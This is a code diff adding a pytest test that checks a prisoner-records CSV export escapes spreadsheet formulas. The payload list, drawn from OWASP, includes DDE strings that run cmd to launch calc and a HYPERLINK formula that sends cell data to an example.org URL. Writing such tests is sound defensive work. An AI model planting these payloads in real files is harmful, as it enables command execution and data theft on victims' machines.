@@ -277,3 +277,44 @@ def test_a_custody_event_is_never_in_the_future_and_is_corrected_not_rewritten(
         {"kind": "hospital"},
         {"kind": "transfer", "corrects": wrong.pk},
     ]
+
+
+# OWASP's CSV-injection payloads, with the leading spaces and full-width forms spreadsheets
+# also run.
+FORMULAS = [
+    "=1+1",
+    "+1+1",
+    "-1+1",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.org/?x="&A1,"Click")',
+    "@cmd|'/c calc'!_xlbgnm.A1",
+    "   =1+1",
+    "\u3000=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1,1)",
+]
+
+
+@pytest.mark.parametrize("payload", FORMULAS)
+def test_no_csv_cell_starts_a_formula(payload):
+    doc = {
+        "prisoners": [
+            {
+                **{name: payload for name in export.RECORD_FIELDS},
+                "refused": [],
+                "card_sent_on": None,
+                "events": [
+                    {"kind": "transfer", "date": "2026-11-01", "place": payload, "details": payload}
+                ],
+            }
+        ]
+    }
+    rows = list(csv.reader(io.StringIO(export.as_csv(doc))))
+    cells = [cell for row in rows[1:] for cell in row if cell]
+    assert cells and all(cell.startswith("'") for cell in cells if payload in cell)
+    assert all(not cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)
